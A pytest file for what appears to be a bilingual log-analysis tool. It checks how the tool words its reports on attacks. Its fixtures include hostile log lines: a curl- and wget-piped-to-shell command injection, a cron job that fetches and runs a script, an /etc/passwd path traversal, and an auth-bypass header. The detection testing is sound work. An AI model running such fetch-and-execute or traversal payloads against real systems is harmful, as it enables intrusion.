"""Sentences of the answer say what was seen: by the command, over logs of kinds that people bring, in both languages."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from kanaria.lab.mining import Plan, conversation
from kanaria.lab.scenario import Host, write_pcap
from tests.app.running import Kanaria
from tests.app.test_records_of_others import hear

STRANGER = "203.0.113.7"
WHEN = "[10/Jan/2026:09:00:00 +0000]"
RATE = (
    "Jan 10 2026 09:10:00 fw01 : %ASA-4-733101: Host {} is attacking. Current burst rate is 200 per second, max "
    "configured rate is 10; Current average rate is 8 per second, max configured rate is 5; Cumulative total count is 5023"
)
PROGRAM = ("a program of the sender's", "送信者のプログラム")
RIGHT = ("its sender has no right to", "本来許されていない操作")

INTENTIONS = {
    "a header that leaves out the logon": (
        json.dumps({
            "level": "info", "ts": 1764931200.12, "logger": "http.log.access.log0", "msg": "handled request",
            "request": {
                "remote_ip": STRANGER, "proto": "HTTP/1.1", "method": "GET", "host": "shop.example.org", "uri": "/admin",
                "headers": {"X-Middleware-Subrequest": ["middleware:middleware:middleware:middleware:middleware"]},
            },
            "duration": 0.021, "size": 212, "status": 200,
        }),
        RIGHT,
    ),
    "a file that is read": (
        f'{STRANGER} - - {WHEN} "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1" 404 196 "-" "-"', RIGHT,
    ),
    "a program that is fetched": (
        f'{STRANGER} - - {WHEN} "GET /?cmd=curl+http://203.0.113.9/x.sh|sh HTTP/1.1" 404 196 "-" "-"', PROGRAM,
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", INTENTIONS)
def test_what_an_attack_wants_is_what_it_carries(kanaria: Kanaria, tmp_path: Path, name: str) -> None:
    line, wanted = INTENTIONS[name]
    said = hear(kanaria, tmp_path, line + "\n")
    assert [one["hypotheses"][0]["name"] for one in said.document["incidents"]] == ["exploitation_attempt"]
    assert all(words in said.words for words in wanted)
    assert not any(words in said.words for words in {*PROGRAM, *RIGHT} - {*wanted})


def test_a_counter_of_a_firewall_accuses_no_busy_server(kanaria: Kanaria, tmp_path: Path) -> None:
    said = hear(kanaria, tmp_path, RATE.format("192.168.1.20") + "\n")
    assert (said.severity, said.rules) == ("informational", {"sensor_scan_by_rate"})
    assert "isolate" not in said.advice
    assert "busy proxies and servers" in said.words and "利用者の多いプロキシやサーバ" in said.words


def test_the_zone_of_a_machine_is_named_in_the_readers_language(
    kanaria: Kanaria, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import time

    monkeypatch.setenv("TZ", "Asia/Tokyo")
    time.tzset()
    try:
        (tmp_path / "auth.log").write_text(
            "Jan 10 09:00:00 web1 CRON[900]: (root) CMD (curl -s http://203.0.113.9/x.sh | sh)\n"
        )
        told = kanaria("analyze", "--lang", "ja", "auth.log", TZ="Asia/Tokyo").out.replace("\n", "")
    finally:
        monkeypatch.undo()
        time.tzset()
    assert "system's zone" not in told and "このシステムのタイムゾーン、UTC+09:00 の時刻" in told


def test_a_logon_after_guessing_is_told_as_a_logon(kanaria: Kanaria, tmp_path: Path) -> None:
    """It was seen to succeed; nothing of it is a program that may run."""
    lines = [
        f"Jan 10 09:00:{number:02} vps sshd[900]: Failed password for root from {STRANGER} port 50000 ssh2"
        for number in range(40)
    ]
    lines.append(f"Jan 10 09:01:00 vps sshd[901]: Accepted password for root from {STRANGER} port 51111 ssh2")
    said = hear(kanaria, tmp_path, "\n".join(lines) + "\n")
    assert said.severity == "high"
    assert "A logon after the failures seems to have succeeded" in said.words
    assert "ログインに成功したとみられます" in said.words
    assert "fits a program that runs" not in said.words and "実際に動いているとみられます" not in said.words


@pytest.mark.parametrize(
    ("more", "uses_nothing"), [("", True), ("/cgi-bin/test.cgi?x=;wget+http://203.0.113.8/x.sh|sh", False)]
)
def test_who_sends_a_command_beside_a_mining_message_is_not_said_to_use_nothing(
    kanaria: Kanaria, tmp_path: Path, more: str, uses_nothing: bool
) -> None:
    lines = [
        f'{STRANGER} - - {WHEN} "{{\\x22id\\x22:1,\\x22method\\x22:\\x22mining.subscribe\\x22,\\x22params\\x22:[]}}" 400 157 "-" "-"'
    ]
    lines += [f'{STRANGER} - - {WHEN} "GET {more} HTTP/1.1" 404 157 "-" "-"'] if more else []
    (tmp_path / "access.log").write_text("\n".join(lines) + "\n")
    words = {
        "en": ("uses a vulnerability", "No vulnerability is involved", "no known vulnerability (CVE)"),
        "ja": (
            "脆弱性を利用する通信はありません",
            "脆弱性は関係していません",
            "特定の脆弱性(CVE)に対応するものはありません",
        ),
    }
    for language, (nothing, story, unnamed) in words.items():
        for style in ("report", "story"):
            said = kanaria("analyze", "--lang", language, "--style", style, "access.log").out
            said = "".join(said.split()) if language == "ja" else " ".join(said.split())
            assert (nothing in said or story in said, style == "report" and unnamed in said) == (
                uses_nothing, style == "report" and not uses_nothing,
            )  # fmt: skip


def test_a_shape_alone_is_not_said_to_be_as_after_a_break_in(kanaria: Kanaria, tmp_path: Path) -> None:
    plan = Plan(dialect="cryptonote", seconds=3 * 3600, wrapping="tls")
    talk = conversation(plan, Host("miner", "192.168.10.53"), Host("pool", "203.0.113.38"), 443)
    write_pcap([talk], tmp_path / "miner.pcap")
    english = " ".join(kanaria("analyze", "--lang", "en", "miner.pcap").out.split())
    assert "Suspicious: traffic" in english and "after a break-in" not in english
    assert "Attack, or stray? Not stray traffic: the device itself takes part." in english
    japanese = "".join(kanaria("analyze", "--lang", "ja", "miner.pcap").out.split())
    assert "侵入された後にみられる" not in japanese and "通信の形だけでは分かりません" in japanese


def test_a_heading_in_markdown_ends_as_one(kanaria: Kanaria, tmp_path: Path) -> None:
    (tmp_path / "access.log").write_text(
        f'{STRANGER} - - {WHEN} "GET /?cmd=curl+http://203.0.113.9/x.sh|sh HTTP/1.1" 404 9 "-" "-"\n'
    )
    said = kanaria("analyze", "--format", "markdown", "access.log").out
    heads = re.findall(r"^- \*\*(.*?)\*\*(.)", said, re.MULTILINE)
    assert len(heads) >= 5
    assert all(after == (" " if head.endswith("?") else ":") for head, after in heads), heads


def test_a_break_in_is_told_step_by_step_and_not_as_a_list_of_rules(kanaria: Kanaria) -> None:
    english = " ".join(kanaria("demo", "--lang", "en").out.split())
    what = english[english.index("What happened:") : english.index("Why we think so:")]
    steps = ["Remote Desktop connections", "as a miner talks to its pool", "file sharing (SMB)"]
    assert [what.index(step) for step in steps] == sorted(what.index(step) for step in steps)
    assert "192.168.10.53 (DNS server)" in what and "203.0.113[.]44:443" in what and "Anomalous" not in what
    japanese = "".join(kanaria("demo", "--lang", "ja").out.split())
    what = japanese[japanese.index("何があったか:") : japanese.index("そう判断した理由:")]
    assert "マイナーがプールとやり取りするときと同じ通信" in what and "重要なネットワーク機器から" not in what


def test_devices_are_listed_with_the_zone_of_their_times(kanaria: Kanaria, tmp_path: Path) -> None:
    flow = '{{"ts":{},"uid":"C1","id.orig_h":"192.168.1.5","id.orig_p":5000,"id.resp_h":"192.0.2.9","id.resp_p":443,"proto":"tcp","conn_state":"SF","orig_bytes":9,"resp_bytes":9}}\n'
    (tmp_path / "conn.log").write_text("".join(flow.format(1768035600 + 60 * n) for n in range(3)))
    (tmp_path / "kanaria.toml").write_text('timezone = "Asia/Tokyo"\n')
    assert (
        "seen 2026-01-10 18:00 to 2026-01-10 18:02 +09:00"
        in kanaria("devices", "--config", "kanaria.toml", "conn.log").out
    )
